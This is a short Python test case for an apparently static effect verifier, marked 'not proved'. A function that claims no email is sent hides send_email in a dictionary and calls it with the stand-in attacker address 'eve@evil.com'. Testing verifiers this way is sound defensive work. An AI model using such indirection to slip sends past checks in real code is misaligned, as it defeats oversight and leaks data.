# not proved: functions can be kept in containers
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    table = {"go": send_email}
    table["go"]("eve@evil.com", "x")
